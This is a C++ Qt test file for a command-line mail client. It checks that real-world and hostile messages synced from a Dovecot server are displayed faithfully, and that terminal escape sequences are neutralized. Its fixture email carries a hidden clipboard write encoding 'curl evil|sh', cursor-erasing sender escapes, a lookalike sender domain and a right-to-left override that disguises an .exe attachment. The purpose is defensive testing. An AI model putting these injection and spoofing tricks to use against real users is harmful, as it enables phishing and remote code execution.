// The message model as a user meets it through a real server: the real-world corpus and the
// hostile corpus delivered into Dovecot, synced with `amiens-mail-cli sync --bodies all` and read
// with `show --json`. Every message must come back (no crash, no hang) and say what the model says.
#include "CliRun.h"
#include "HostileMail.h"
#include "MailServerControl.h"
#include "TestEnvironment.h"
#include "mime/MessageContent.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace Amiens;
using namespace Amiens::Test;

namespace {

/// The hostile messages small enough to go through the test server quickly; the big ones (a
/// 50 MB header, 20 MB lines) run through the same code in tst_hostilemail without a server.
constexpr qsizetype kMaxDeliveredBytes = 6 * 1024 * 1024;
const QString kFolder = u"Corpus"_s;

} // namespace

class TestMessageCli : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void everyMessageIsShownAsTheModelReadsIt();
    void terminalSequencesAreShownNotRun();

private:
    CliRun cli(const QStringList &arguments, const QByteArray &input = {});

    TestEnvironment m_env;
    QTemporaryDir m_dir;
    QString m_profile;
    struct Delivered
    {
        QString name;
        quint32 uid = 0;
        QByteArray raw;
        bool hostile = false;
    };
    QList<Delivered> m_delivered;
};

CliRun TestMessageCli::cli(const QStringList &arguments, const QByteArray &input)
{
    return runCli(QStringLiteral(AMIENS_CLI_PATH), QStringList{u"--profile"_s, m_profile} + arguments, input);
}

void TestMessageCli::initTestCase()
{
    m_env = TestEnvironment::fromEnvironment();
    AMIENS_REQUIRE_SERVERS(m_env);
    m_profile = m_dir.filePath(u"profile"_s);
    const CliRun added =
        cli({u"account"_s, u"add"_s, u"--address"_s, m_env.address, u"--name"_s, u"Marie Dupont"_s,
             u"--imap-host"_s, m_env.host, u"--imap-port"_s, QString::number(m_env.imapsPort),
             u"--smtp-host"_s, m_env.host, u"--smtp-port"_s, QString::number(m_env.smtpsPort), u"--login"_s,
             m_env.user, u"--ca-file"_s, m_env.caFile, u"--password-stdin"_s},
            m_env.password.toUtf8() + '\n');
    QVERIFY2(added.exitCode == 0, qPrintable(added.err));

    const MailServerControl server(m_env.user);
    QVERIFY(server.reset());
    QVERIFY(server.createFolder(kFolder));
    const QDir corpus(QStringLiteral(AMIENS_SOURCE_DIR "/tests/data/realworld"));
    for (const QString &name : corpus.entryList({u"*.eml"_s}, QDir::Files, QDir::Name)) {
        QFile file(corpus.filePath(name));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray raw = file.readAll();
        const quint32 uid = server.save(kFolder, raw);
        QVERIFY2(uid > 0, qPrintable(name));
        m_delivered.append({name, uid, raw, false});
    }
    for (const QString &name : HostileMail::names()) {
        HostileCase hostile = HostileMail::byName(name);
        if (hostile.raw.size() > kMaxDeliveredBytes)
            continue;
        const quint32 uid = server.save(kFolder, hostile.raw);
        QVERIFY2(uid > 0, qPrintable(name));
        m_delivered.append({name, uid, std::move(hostile.raw), true});
    }
    QVERIFY(m_delivered.size() > 80);

    const CliRun synced = cli({u"sync"_s, u"--bodies"_s, u"all"_s});
    QVERIFY2(synced.exitCode == 0, qPrintable(synced.err));
}

void TestMessageCli::everyMessageIsShownAsTheModelReadsIt()
{
    int hostile = 0;
    for (const Delivered &message : std::as_const(m_delivered)) {
        QElapsedTimer timer;
        timer.start();
        const CliRun show = cli({u"show"_s, kFolder, QString::number(message.uid), u"--json"_s});
        const qint64 elapsed = timer.elapsed();
        QVERIFY2(show.exitCode == 0, qPrintable(message.name + u": "_s + show.err));
        // A process start, a cache open and the model: seconds would mean a hang.
        QVERIFY2(elapsed < 5000, qPrintable(u"%1 took %2 ms"_s.arg(message.name).arg(elapsed)));
        const QJsonObject shown = QJsonDocument::fromJson(show.out.toUtf8()).object();
        QVERIFY2(!shown.isEmpty(), qPrintable(message.name));

        if (!message.hostile) {
            // What `show` prints is what the model gives for the bytes that were delivered (the
            // server sends them back with CRLF line ends: the model reads both alike).
            const MessageContent model = MessageContent::parse(message.raw);
            QVERIFY2(shown.value(u"text"_s).toString() == model.text, qPrintable(message.name));
            QCOMPARE(shown.value(u"incomplete"_s).toBool(), model.incomplete);
            QCOMPARE(shown.value(u"attachments"_s).toArray().size(), model.attachments.size());
        } else {
            ++hostile;
            const HostileCase expected = HostileMail::byName(message.name);
            if (expected.expectIncomplete)
                QVERIFY2(shown.value(u"incomplete"_s).toBool(), qPrintable(message.name));
            if (expected.canaryReachable)
                QVERIFY2(shown.value(u"text"_s).toString().contains(HostileMail::canary()),
                         qPrintable(message.name));
        }
    }
    QVERIFY(hostile >= 20);
}

void TestMessageCli::terminalSequencesAreShownNotRun()
{
    // A subject that writes the clipboard (OSC 52), a sender name that moves the cursor up and
    // erases the warning line, a body and a file name with escapes and a bidi override (issue 16).
    const QByteArray raw = "From: \"Rectorat\x1b[1A\x1b[2K\" <ce.rectorat@ac-amlens.fr>\r\n"
                           "To: marie.dupont@ac-amiens.fr\r\n"
                           "Subject: Facture \x1b]52;c;Y3VybCBldmlsfHNo\x07 impayee\r\n"
                           "Date: Fri, 4 Dec 2026 10:00:00 +0100\r\nMessage-ID: <escapes@example.fr>\r\n"
                           "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                           "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                           "Bonjour,\x1b[2J\x1b]0;titre\x07 voir la facture.\r\n--b\r\n"
                           "Content-Type: application/pdf; name=\"facture\xe2\x80\xae"
                           "fdp.exe\"\r\n"
                           "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n";
    const MailServerControl server(m_env.user);
    const quint32 uid = server.save(kFolder, raw);
    QVERIFY(uid > 0);
    const CliRun synced = cli({u"sync"_s, u"--bodies"_s, u"all"_s});
    QVERIFY2(synced.exitCode == 0, qPrintable(synced.err));

    const CliRun show = cli({u"show"_s, kFolder, QString::number(uid)});
    QVERIFY2(show.exitCode == 0, qPrintable(show.err));
    const CliRun list = cli({u"list"_s, kFolder});
    QVERIFY2(list.exitCode == 0, qPrintable(list.err));
    for (const QString &output : {show.out, list.out}) {
        QVERIFY2(!output.contains(QChar(0x1b)) && !output.contains(QChar(0x07)), qPrintable(output));
        QVERIFY2(!output.contains(QChar(0x202E)), qPrintable(output));
    }
    QVERIFY2(show.out.contains(u"Facture \u241b]52;c;Y3VybCBldmlsfHNo\u2407 impayee"_s),
             qPrintable(show.out));
    QVERIFY2(show.out.contains(u"Bonjour,\u241b[2J"_s), qPrintable(show.out));
    // The model drops the override from file names, so the real extension shows.
    QVERIFY2(show.out.contains(u"facturefdp.exe"_s), qPrintable(show.out));
    QVERIFY2(list.out.contains(u"Rectorat\u241b[1A\u241b[2K"_s), qPrintable(list.out));
}

QTEST_GUILESS_MAIN(TestMessageCli)
#include "tst_messagecli.moc"
